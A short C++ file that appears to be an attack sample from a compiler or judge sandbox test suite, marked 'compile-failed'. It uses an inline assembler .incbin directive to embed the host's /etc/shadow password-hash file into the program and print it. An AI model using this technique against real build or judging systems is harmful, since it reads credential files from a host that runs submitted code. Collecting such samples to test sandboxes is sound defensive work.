// attack: takes a file of the host into the program by the assembler
// status: compile-failed
#include <cstdio>
__asm__(".globl s\ns: .incbin \"/etc/shadow\"");
extern char s[];
int main() { puts(s); }
